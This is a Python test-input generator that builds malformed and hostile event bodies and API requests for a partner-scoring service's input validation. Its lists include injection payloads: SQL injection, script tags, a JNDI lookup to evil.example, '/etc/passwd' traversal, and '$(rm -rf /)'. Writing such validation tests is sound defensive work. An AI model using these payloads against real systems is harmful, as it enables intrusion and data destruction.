"""A deterministic generator of malformed and hostile inputs, each with the field it must be
rejected on.

From the sample of every event a queue consumes (events/inbound/*.json, and our own
ScoreEvaluated for the attainment queue) it derives, for every field: each wrong value of its kind
(wrong types, empty, too long, unknown enum values, negative and huge numbers, impossible and
out-of-range dates, injection-looking strings), its removal when it is required, and an unknown
field next to it; then envelope faults (source, detail-type, detail) and bodies that are not a JSON
object at all or are too large. The API cases are built the same way from the routes' parameters.

Inputs that the code mishandled when this suite was written are not generated here; each has its own
test in test_bad_input.py (a strict xfail while open, a regression test once fixed).
"""

from __future__ import annotations

import copy
import json
from dataclasses import dataclass
from pathlib import Path
from typing import Any

EVENTS = Path(__file__).resolve().parents[2] / "events"
INJECTIONS = ["'; DROP TABLE partners;--", "<script>alert(1)</script>", "${jndi:ldap://evil.example/a}",
              "../../../../etc/passwd", "{{7*7}}", "$(rm -rf /)", "1 OR 1=1", "\u202egnp.exe", "null\u0000byte"]
NOT_A_STRING = [None, 7, True, 1.5, [], {}, ["x"]]
BAD_DATES = ["2022-02-30", "2023-02-29", "2022-13-01", "2022-00-10", "2022-10-32", "1999-12-31", "2101-01-01",
             "2022-10-03T00:00:00Z", "20221003", "2022/10/03", "03-10-2022", "2022-1-3", "", " ", "0000-00-00",
             "+12022-10-03", "yesterday", 20221003, 1664755200, None, True, [], {}]
NOT_A_NUMBER = ["12", "1e3", "NaN", "Infinity", "", True, False, None, [], {}, [1], {"value": 1}]
HUGE = [1_000_000_001, -1_000_000_001, 10**30, -(10**30), 1e300, -1e300, 1e10]


def _ids(limit: int, pattern: bool = True) -> list[Any]:
    bad = [*NOT_A_STRING, "", "   ", "x" * (limit + 1), "x" * 5000]
    if pattern:
        bad += ["a b", "a/b", "a\nb", "é-1", *INJECTIONS]
    return bad


def _enum(sample: str, required: bool) -> list[Any]:
    bad = ["NOPE", sample.lower(), f" {sample}x", "", 0, True, [sample], {sample: 1}, *INJECTIONS[:4]]
    return bad + ([None] if required else [])


# kind of every field of the inbound details and of ScoreEvaluated, by name
KINDS: dict[str, Any] = {
    "eventId": lambda s: _ids(128), "partnerId": lambda s: _ids(64), "locationId": lambda s: _ids(64),
    "offerId": lambda s: _ids(128), "personId": lambda s: [*NOT_A_STRING, "", "   ", "p" * 129],
    "certification": lambda s: [*NOT_A_STRING, "", "c" * 201], "competency": lambda s: [*NOT_A_STRING, "", "c" * 201],
    "specialization": lambda s: [*NOT_A_STRING, "", "s" * 201, "Not A Specialization", *INJECTIONS[:3]],
    "solutionArea": lambda s: _enum(s, True), "track": lambda s: _enum(s, False) if s else ["NOPE", 1, ""],
    "metric": lambda s: _enum(s, True) + (["advancedCertifications", "intermediateCertifications"]
                                          if s in ("netCustomerAdds", "usageGrowth", "deployments") else []),
    "association": lambda s: _enum(s, False), "segment": lambda s: _enum(s, False), "level": lambda s: _enum(s, True),
    "option": lambda s: _enum(s, True), "offerType": lambda s: _enum(s, True), "category": lambda s: _enum(s, True),
    "currency": lambda s: ["usd", "US", "USDD", "", 840, None, True, "€€€"],
    "measuredOn": lambda s: BAD_DATES, "on": lambda s: BAD_DATES, "heldOn": lambda s: BAD_DATES,
    "anniversaryDate": lambda s: BAD_DATES, "periodEnd": lambda s: BAD_DATES, "publishedOn": lambda s: BAD_DATES,
    "effectiveOn": lambda s: BAD_DATES, "evaluatedOn": lambda s: BAD_DATES,
    "value": lambda s: NOT_A_NUMBER + HUGE,
    "amount": lambda s: NOT_A_NUMBER + [-1, -0.01, -(10**12), 10**12, 1e300],
    "examVouchers": lambda s: NOT_A_NUMBER + [-1, -0.5, 10**12],
    "qualityScore": lambda s: NOT_A_NUMBER + [-0.01, 5.01, 6, 100, 1e300],
    "coursewareActivations": lambda s: ["1240", 1240.5, True, None, [], -1, -(10**12), 10**16, 2**63],
    "coSellReady": lambda s: ["true", "false", 1, 0, None, "yes", [], {}],
    "qualified": lambda s: ["true", 1, 0, None, "yes", []],
    "rulebookVersion": lambda s: [*NOT_A_STRING, "", "v" * 65],
    "total": lambda s: ["70", "70.0", "70.001", 70, 70.5, None, "abc", "", "-", "1e2"],
    "points": lambda s: ["5", "5.0", 5, None, "five", ""], "maxPoints": lambda s: ["x", "", None, 5, "1e2", "-"],
    "units": lambda s: [-1, "3", 1.5, True, 10**16, 2**63],
    "cause": lambda s: _ids(128),
}
CONTAINERS: dict[str, list[Any]] = {
    "measurements": [[], None, "x", {}, 5, [1], ["x"], [None], [[]]],
    "metrics": [None, "x", {}, 5, [1], ["x"], [None]],
    "surveysByArea": [[], "x", None, 5, {"AZURE": 200}, {"SECURITY": -1}, {"SECURITY": "200"}, {"SECURITY": 2.5},
                      {"SECURITY": None}, {"": 1}, {"DATA_AI": 10**16}],
    "fee": [None, "4730", 4730, [], {"amount": 4730}, {"currency": "USD"}, {"amount": 4730, "currency": "USD", "x": 1}],
}
OPTIONAL = {"track", "association", "segment"}


@dataclass(frozen=True)
class BadInput:
    name: str
    queue: str
    body: str
    field: str  # the field the rejection must name (exactly, or a sub-field of it)

    def matches(self, field: str) -> bool:
        return field == self.field or field.startswith(self.field + ".")


def _load(path: Path) -> dict[str, Any]:
    return json.loads(path.read_text(encoding="utf-8"))


def samples() -> list[tuple[str, dict[str, Any]]]:
    out = []
    for path in sorted((EVENTS / "inbound").glob("*.json")):
        env = _load(path)
        out.append(("RenewalQueue" if env["detail-type"] == "BenefitsElected" else "ScoreIngestionQueue", env))
    out.append(("AttainmentQueue", _load(EVENTS / "outbound" / "ScoreEvaluated.json")))
    return out


def _paths(obj: Any, prefix: tuple = ()) -> list[tuple[tuple, Any]]:
    """(path, value) of every field below a detail (list items: the first and the last)."""
    out = []
    if isinstance(obj, dict):
        for k, v in obj.items():
            out.append(((*prefix, k), v))
            if isinstance(v, (dict, list)) and k != "surveysByArea":
                out += _paths(v, (*prefix, k))
    elif isinstance(obj, list) and obj:
        for i in sorted({0, len(obj) - 1}):
            if isinstance(obj[i], dict):
                out += _paths(obj[i], (*prefix, i))
    return out


def _set(detail: dict[str, Any], path: tuple, value: Any) -> dict[str, Any]:
    d = copy.deepcopy(detail)
    target = d
    for p in path[:-1]:
        target = target[p]
    if value is _DELETE:
        del target[path[-1]]
    else:
        target[path[-1]] = value
    return d


_DELETE = object()


def _dotted(path: tuple) -> str:
    return "detail." + ".".join(str(p) for p in path)


def inbound_cases() -> list[BadInput]:
    cases: list[BadInput] = []
    for queue, env in samples():
        kind = env["detail-type"]
        detail = env["detail"]

        def add(name: str, new_detail: Any, field: str, envelope: dict[str, Any] | None = None) -> None:
            e = copy.deepcopy(envelope if envelope is not None else env)
            e["detail"] = new_detail
            cases.append(BadInput(f"{kind}: {name}", queue, json.dumps(e), field))

        for path, value in _paths(detail):
            name = path[-1] if isinstance(path[-1], str) else None
            if name is None:
                continue
            bad_values = CONTAINERS.get(name) or KINDS.get(name, lambda s: [])(value)
            if kind == "ScoreEvaluated" and name == "eventId":  # our own ids: 1-256 characters, any
                bad_values = [*NOT_A_STRING, "", "x" * 257]
            if kind == "ScoreEvaluated" and name == "metric":  # every rulebook metric is valid here
                bad_values = _enum(value, True)
            bad_values = [b for b in bad_values if b != value or type(b) is not type(value)]
            if name in ("measurements", "metrics"):
                bad_values = [*bad_values, [value[0]] * 51 if name == "measurements" else None]
            for bad in bad_values:
                if name == "track" and bad is None:
                    continue
                if name == "measurements" and isinstance(bad, list) and len(bad) == 51:
                    add(f"{_dotted(path)} = 51 items", _set(detail, path, bad), _dotted(path))
                    continue
                add(f"{_dotted(path)} = {json.dumps(bad)[:40]}", _set(detail, path, bad), _dotted(path))
            if name not in OPTIONAL and not (kind == "ScoreEvaluated" and name in ("track", "units")) \
                    and not (kind == "MetricsReported" and name == "track"):
                add(f"{_dotted(path)} missing", _set(detail, path, _DELETE), _dotted(path))
        for path, value in [((), detail), *[(p, v) for p, v in _paths(detail) if isinstance(v, dict)]]:
            for extra in ("unexpected", "__proto__", "$where", "constructor"):
                if path and path[-1] == "surveysByArea":
                    continue
                add(f"extra field {extra} in {_dotted(path)}", _set(detail, (*path, extra), 1),
                    _dotted((*path, extra)))
        if kind == "MetricsReported":
            dup = copy.deepcopy(detail)
            dup["measurements"].append(copy.deepcopy(dup["measurements"][0]))
            add("repeated measurement", dup, "detail.measurements")
        # envelope
        source = env["source"]
        other = "partner.skilling" if source != "partner.skilling" else "partner.scorefeed"
        route_field = "source" if queue == "AttainmentQueue" else "detail-type"
        for name, change, field in [
            ("unknown source", {"source": "evil.feed"}, route_field),
            ("another producer's source", {"source": other}, route_field),
            ("source missing", {"source": _DELETE}, "source"),
            ("source not a string", {"source": 42}, "source"),
            ("source empty", {"source": ""}, "source"),
            ("detail-type unknown", {"detail-type": "DesignationStolen"}, "detail-type"),
            ("detail-type missing", {"detail-type": _DELETE}, "detail-type"),
            ("detail-type not a string", {"detail-type": ["MetricsReported"]}, "detail-type"),
            ("detail-type huge", {"detail-type": "X" * 10_000}, "detail-type"),
            ("detail-type injection", {"detail-type": INJECTIONS[0]}, "detail-type"),
            ("detail missing", {"detail": _DELETE}, "detail"),
            ("detail a string", {"detail": json.dumps(detail)}, "detail"),
            ("detail a list", {"detail": [detail]}, "detail"),
            ("detail null", {"detail": None}, "detail"),
            ("detail over 64 KiB", {"detail": {**detail, "padding": "p" * (70 * 1024)}}, "detail"),
            ("detail of 200 KiB", {"detail": {**detail, "padding": "p" * (200 * 1024)}}, "detail"),
        ]:
            e = copy.deepcopy(env)
            for k, v in change.items():
                if v is _DELETE:
                    e.pop(k, None)
                else:
                    e[k] = v
            if "detail" in change and change["detail"] is not _DELETE:
                cases.append(BadInput(f"{kind}: {name}", queue, json.dumps(e), field))
            else:
                cases.append(BadInput(f"{kind}: {name}", queue, json.dumps(e), field))
        text = json.dumps(env)
        for name, body in [
            ("empty body", ""), ("whitespace body", "   "), ("plain text", "lots of metrics, trust me"),
            ("truncated JSON", text[: len(text) // 2]), ("JSON array", "[1, 2, 3]"), ("JSON null", "null"),
            ("JSON number", "42"), ("JSON string", json.dumps(text)), ("single quotes", text.replace('"', "'")),
            ("XML", "<event><detail/></event>"), ("NaN body", "NaN"), ("trailing garbage", text + "}}"),
            ("nested too deep", "[" * 5000 + "]" * 5000),
            ("detail nested too deep", text.replace('"detail": {', '"detail": {"x": ' + "[" * 5000 + "]" * 5000 + ', ', 1)),
            ("NaN number token", text.replace(json.dumps(detail)[:0] + '"eventId"', '"nan": NaN, "eventId"', 1)),
            ("Infinity number token", text.replace('"eventId"', '"inf": -Infinity, "eventId"', 1)),
            ("integer with 5000 digits", text.replace('"eventId"', '"n": ' + "9" * 5000 + ', "eventId"', 1)),
        ]:
            field = "body"
            if name in ("detail nested too deep",):
                field = "body"
            if name in ("NaN number token", "Infinity number token"):
                field = "detail.nan" if "NaN" in name else "detail.inf"
            cases.append(BadInput(f"{kind}: {name}", queue, body, field))
    return cases


# --------------------------------------------------------------------------- API


@dataclass(frozen=True)
class BadRequest:
    name: str
    method: str
    resource: str
    path_params: dict[str, str] | None
    query: dict[str, str] | None
    body: str | None
    field: str

    @property
    def path(self) -> str:
        from urllib.parse import quote

        p = self.resource
        for k, v in (self.path_params or {}).items():
            p = p.replace("{" + k + "}", quote(v, safe=""))  # as a client sends it: one path segment
        return p


GET_ROUTES = ["/partners/{partnerId}", "/partners/{partnerId}/scores", "/partners/{partnerId}/eligibility",
              "/partners/{partnerId}/history"]
BAD_PARTNER_IDS = ["a b", "p_1", "x" * 65, "x" * 5000, "'; DROP TABLE partners;--", "<script>alert(1)</script>",
                   "${jndi:ldap://evil.example/a}", "..", "%00", "p\u00e9", "p.1", "p~1", "p,1", "*"]
BAD_ON = ["2023-02-30", "2023-13-01", "yesterday", "2023-1-1", "20230101", "2023/01/01", "", "99999-01-01",
          "2023-01-01T25:00:00", "-1", "2023-02-29", "1e9"]


def api_cases(existing: str = "contoso-1001") -> list[BadRequest]:
    """`existing`: a recorded partner (the what-if body is read after the partner is found)."""
    cases: list[BadRequest] = []
    for resource in GET_ROUTES:
        for pid in BAD_PARTNER_IDS:
            cases.append(BadRequest(f"GET {resource} partnerId={pid[:30]!r}", "GET", resource, {"partnerId": pid},
                                    None, None, "partnerId"))
        if not resource.endswith("/history"):
            for on in BAD_ON:
                cases.append(BadRequest(f"GET {resource} on={on!r}", "GET", resource, {"partnerId": "contoso-1001"},
                                        {"on": on}, None, "on"))
    valid = {"partnerId": "contoso-1001", "offerType": "MANAGED_SERVICES", "on": "2023-06-01"}

    def body_case(name: str, resource: str, params: dict[str, str] | None, body: Any, field: str,
                  raw: bool = False) -> None:
        cases.append(BadRequest(name, "POST", resource, params, None, body if raw else json.dumps(body), field))

    for field, bads in {"partnerId": [None, 7, "", "a b", "x" * 65, *INJECTIONS[:4]],
                        "locationId": [7, "", "a/b", "x" * 65],
                        "offerType": [None, "SAAS", "managed_services", 1, [], *INJECTIONS[:2]],
                        "offerId": [7, "", "o" * 129, []],
                        "on": [7, "2023-02-30", "tomorrow", "2023-1-1", []]}.items():
        for bad in bads:
            body = {**valid, field: bad}
            if field == "partnerId" and bad is None:
                continue  # then neither id is given: a rule of the whole body, below
            if field == "locationId":
                body.pop("partnerId")
            body_case(f"POST /publish-checks {field}={json.dumps(bad)[:30]}", "/publish-checks", None, body, field)
    body_case("POST /publish-checks offerType missing", "/publish-checks", None,
              {"partnerId": "contoso-1001"}, "offerType")
    for extra in ("admin", "__proto__", "$where"):
        body_case(f"POST /publish-checks extra {extra}", "/publish-checks", None, {**valid, extra: True}, extra)
    body_case("POST /publish-checks both ids", "/publish-checks", None, {**valid, "locationId": "l-1"}, "body")
    body_case("POST /publish-checks no id", "/publish-checks", None,
              {"offerType": "MANAGED_SERVICES"}, "body")
    for name, raw in [("array body", "[1]"), ("string body", '"x"'), ("number body", "5"), ("null body", "null")]:
        body_case(f"POST /publish-checks {name}", "/publish-checks", None, raw, "body", raw=True)
    what_if = "/partners/{partnerId}/what-if"
    params = {"partnerId": existing}
    good_m = {"solutionArea": "DATA_AI", "measuredOn": "2023-01-10",
              "measurements": [{"metric": "netCustomerAdds", "value": 5, "association": "PAL"}]}
    good_c = {"personId": "p-1", "certification": "Azure Administrator Associate", "on": "2023-01-10"}
    for bad in [None, "x", 5, {}, [1], ["x"], [good_m] * 51]:
        body_case(f"POST what-if measurements={json.dumps(bad)[:30]}", what_if, params, {"measurements": bad},
                  "measurements")
    for key, bads in {"solutionArea": ["AZURE", None, 1], "measuredOn": ["2023-02-30", None, 20230110],
                      "measurements": [[], None, "x"]}.items():
        for bad in bads:
            body_case(f"POST what-if measurements.0.{key}={json.dumps(bad)[:30]}", what_if, params,
                      {"measurements": [{**good_m, key: bad}]}, f"measurements.0.{key}")
    for key, bads in {"value": ["5", True, None, 10**30], "metric": ["revenue", None, "advancedCertifications"],
                      "association": ["MSP", 1]}.items():
        for bad in bads:
            m = {**good_m, "measurements": [{**good_m["measurements"][0], key: bad}]}
            body_case(f"POST what-if measurements.0.measurements.0.{key}={json.dumps(bad)[:30]}", what_if, params,
                      {"measurements": [m]}, f"measurements.0.measurements.0.{key}")
    for key, bads in {"personId": [None, "", "p" * 129], "certification": [None, 7], "on": ["2023-13-01", None]}.items():
        for bad in bads:
            body_case(f"POST what-if certifications.0.{key}={json.dumps(bad)[:30]}", what_if, params,
                      {"certifications": [{**good_c, key: bad}]}, f"certifications.0.{key}")
    for bad in ["x", 5, {}]:
        body_case(f"POST what-if certifications={json.dumps(bad)}", what_if, params, {"certifications": bad},
                  "certifications")
    body_case("POST what-if extra field", what_if, params, {"measurements": [], "stored": True}, "stored")
    body_case("POST what-if extra field in a measurement", what_if, params,
              {"measurements": [{**good_m, "unit": "customers"}]}, "measurements.0.unit")
    for pid in BAD_PARTNER_IDS[:6]:
        cases.append(BadRequest(f"POST what-if partnerId={pid[:30]!r}", "POST", what_if, {"partnerId": pid}, None,
                                json.dumps({"measurements": []}), "partnerId"))
    return cases
